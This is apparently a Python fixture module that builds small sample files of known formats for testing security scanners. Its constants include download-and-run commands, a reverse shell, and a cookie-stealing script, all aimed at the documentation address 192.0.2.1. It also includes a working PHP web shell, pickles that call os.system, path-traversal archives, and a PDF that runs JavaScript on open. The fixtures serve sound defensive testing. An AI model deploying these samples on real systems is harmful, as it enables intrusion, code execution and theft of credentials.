"""Short files of known formats, with the signatures that scanners search for.

Programs and pickles have no effect. Scripts run harmless commands, or contact addresses that are for documentation; the
PHP script would run the commands that a web server passes to it.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

_CODE = bytes.fromhex("b83c00000031ff0f05")  # mov eax, 60; xor edi, edi; syscall: exit(0)
# Elf64_Ehdr and Elf64_Phdr for x86-64, with one segment that is loaded at 0x400000. The fields are those of elf(5).
_ELF_HEADER = struct.pack(
    "<4sBBBB8xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0
)
_ELF_SEGMENT = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(_CODE), 120 + len(_CODE), 4096)
ELF = (_ELF_HEADER + _ELF_SEGMENT + _CODE).ljust(512, b"\0")
"""A program for x86-64 Linux that exits at once."""

# The headers of other executables, by which scanners recognize them.
_DOS = b"MZ".ljust(60, b"\0") + struct.pack("<I", 128)
_STUB = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
_COFF = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + struct.pack("<H", 0x20B)
PE = ((_DOS + _STUB).ljust(128, b"\0") + b"PE\0\0" + _COFF).ljust(512, b"\0")
MACH_O = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, 72, 0x85, 0).ljust(512, b"\0")
MACH_O_FAT = (struct.pack(">II", 0xCAFEBABE, 2) + struct.pack(">IIIII", 0x01000007, 3, 4096, 512, 12)).ljust(512, b"\0")
JAVA_CLASS = (struct.pack(">IHH", 0xCAFEBABE, 0, 61) + b"\0\x0a\x07\0\x02").ljust(256, b"\0")
WASM = b"\0asm\1\0\0\0\1\4\1\x60\0\0\3\2\1\0\x0a\4\1\2\0\x0b".ljust(256, b"\0")
DEX = b"dex\n035\0".ljust(256, b"\1")


def _zip(members):
    """Return a zip archive. members: pairs of the name and the bytes of a member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def _tar():
    """Return a tar archive without most of its padding. The name of its member leads out of the folder."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo("../../evil.sh")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"id\n"))
    return out.getvalue()[:1536]


# Pickles of the protocols 0, 2 and 4 that call os.system("true"), and one that evaluates 1+1.
PICKLE_0 = b"cos\nsystem\n(S'true'\ntR."
PICKLE_2 = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
PICKLE = b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94."
PICKLE_EVAL = b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c\x031+1\x85R."
ZIP = _zip([("payload.sh", b"#!/bin/sh\nid\n")])
TORCH_ZIP = _zip([("archive/data.pkl", PICKLE_2), ("archive/version", b"3\n")])
ZIP_SLIP = _zip([("../../../evil.py", b"print('evil')\n")])
TAR = _tar()
GZIP = gzip.compress(b"#!/bin/sh\nid\n" * 20, mtime=0)
XZ = lzma.compress(b"#!/bin/sh\nid\n" * 20)
BZIP2 = bz2.compress(b"#!/bin/sh\nid\n" * 20)
# Signatures, followed by other bytes.
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04".ljust(256, b"\x11")
RAR = b"Rar!\x1a\x07\x01\x00".ljust(256, b"\x22")
CAB = b"MSCF\0\0\0\0".ljust(256, b"\x33")
# A document that runs JavaScript when it is opened.
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>"
# 3495 is the magic number of CPython 3.11.
PYC = struct.pack("<H2sIII", 3495, b"\r\n", 0, 0, 16) + b"\xe3" + bytes(64)
GGUF = b"GGUF\x03\0\0\0".ljust(256, b"\0")
SHELL = b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n"
PYTHON = b"import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n"
POWERSHELL = b"powershell -NoP -W Hidden -EncodedCommand aQBkAA==\r\n"
BATCH = b"@echo off\r\ncertutil -urlcache -f http://192.0.2.1/x.exe x.exe & x.exe\r\n"
JAVASCRIPT = b"<script>fetch('http://192.0.2.1/?c='+document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
VBSCRIPT = b'CreateObject("WScript.Shell").Run "cmd /c whoami"\r\n'
REVERSE_SHELL = b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
ELF_BASE64 = base64.b64encode(ELF)
ELF_HEX = ELF.hex().encode()
ELF_ZLIB = zlib.compress(ELF, 9)


def noise(count, seed=1):
    """Return bytes of high entropy, like an encrypted payload. Equal seeds give equal bytes."""
    out = bytearray()
    state = seed
    # A linear congruential generator with the constants of MMIX.
    for _ in range(count):
        state = (state * 6364136223846793005 + 1442695040888963407) & ((1 << 64) - 1)
        out.append(state >> 56)
    return bytes(out)
